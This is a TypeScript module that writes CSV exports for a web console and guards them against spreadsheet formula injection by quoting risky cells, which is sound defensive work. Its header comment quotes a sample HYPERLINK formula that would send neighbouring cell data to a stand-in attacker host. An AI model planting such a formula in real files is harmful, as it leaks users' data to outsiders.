/**
 * The one writer of the CSV files the console hands out (the insights' tables, the invite import's
 * template): papaparse's `unparse` with CRLF line ends (RFC 4180) and spreadsheet formulas
 * neutralised, plus the download with a byte-order mark and the reverse step for a file read back.
 *
 * Formula injection: a spreadsheet program opening a CSV file runs a cell that starts with `=`,
 * `+`, `-` or `@` as a formula (and Excel also after a leading tab or carriage return), so a
 * trainee's first name `=HYPERLINK("https://evil.test/?leak="&B2,"Open")` would become a live link
 * that sends the neighbouring cells away; quoting the cell does not stop it. As OWASP advises,
 * every **text** cell starting with one of `= + - @`, a tab, a carriage return or a line feed gets a
 * leading single quote (`'=HYPERLINK(…)`), which spreadsheets show as text. **Numbers** (JavaScript
 * numbers, e.g. -0.35) are written as they are: a number cannot hold a formula, and a negative one
 * stays a number a spreadsheet can sum. So a writer that wants a figure to stay a number passes it
 * as a number, not as formatted text.
 */
import Papa from 'papaparse';
import { downloadBlob } from './download';

/** A cell of a CSV file: text (neutralised when it could run as a formula) or a number. */
export type CsvCell = string | number;

/**
 * Text cells that a spreadsheet could run as a formula: those starting with `=`, `+`, `-`, `@`,
 * a tab, a carriage return or a line feed. (papaparse's own `escapeFormulae: true` pattern misses
 * a cell that also holds a line break later on, e.g. `=1+1\nmore`, so this one tests the start only.)
 */
export const formulaStart = /^[=+\-@\t\r\n]/;

/**
 * A text cell as written to the file: with a leading single quote when it could run as a
 * formula (`formulaStart`), unchanged otherwise; numbers are returned as they are.
 */
export function neutralizeCell(cell: CsvCell): CsvCell {
  return typeof cell === 'string' && formulaStart.test(cell) ? `'${cell}` : cell;
}

/**
 * A cell read back from a file this writer made (or a spreadsheet saved from it): drops the single
 * quote `neutralizeCell` put before a formula's first character (`'=Team` → `=Team`), so a value
 * survives the round trip; any other text is returned unchanged.
 */
export function restoreCell(text: string): string {
  return text.startsWith("'") && formulaStart.test(text.slice(1)) ? text.slice(1) : text;
}

/**
 * The CSV text of a header row and data rows: takes the header cells and the rows' cells (text or
 * numbers); returns the file's text with CRLF line ends, cells quoted where needed and text cells
 * that could run as a formula neutralised (`neutralizeCell`), headers included. No byte-order mark.
 */
export function writeCsv(
  header: readonly CsvCell[],
  rows: readonly (readonly CsvCell[])[],
): string {
  return Papa.unparse(
    [header, ...rows].map((cells) => cells.map(neutralizeCell)),
    // The cells are neutralised above; papaparse's own pass would find nothing more to do.
    { newline: '\r\n', escapeFormulae: false },
  );
}

/**
 * Starts the browser's download of the CSV `text` (from `writeCsv`) as `fileName`: UTF-8 with a
 * byte-order mark, so spreadsheet programs read names with accents.
 */
export function downloadCsvText(fileName: string, text: string): void {
  downloadBlob(new Blob(['\uFEFF', text], { type: 'text/csv;charset=utf-8' }), fileName);
}
